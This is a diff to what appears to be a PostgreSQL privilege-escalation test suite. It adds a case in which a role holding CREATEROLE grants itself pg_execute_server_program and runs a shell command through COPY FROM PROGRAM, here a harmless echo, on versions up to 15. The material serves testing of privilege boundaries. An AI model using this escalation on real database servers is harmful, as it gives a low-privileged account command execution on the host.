@@ -16,6 +16,19 @@ CREATE ROLE colleague;
 GRANT warrant_approver TO colleague;
 SELECT 'he is' WHERE pg_has_role('colleague', 'warrant_approver', 'member');
 
+--- servers_programs: who may create roles lets himself run the server's programs
+-- until 15
+-- as temp
+-- needs nothing
+-- shows ^he runs them$
+-- setup
+CREATE ROLE temp LOGIN CREATEROLE;
+-- attack
+GRANT pg_execute_server_program TO temp;
+CREATE TEMPORARY TABLE told (line text);
+COPY told FROM PROGRAM 'echo he runs them';
+SELECT line FROM told;
+
 --- approvers_password: he changes an approver's password
 -- until 15
 -- as temp
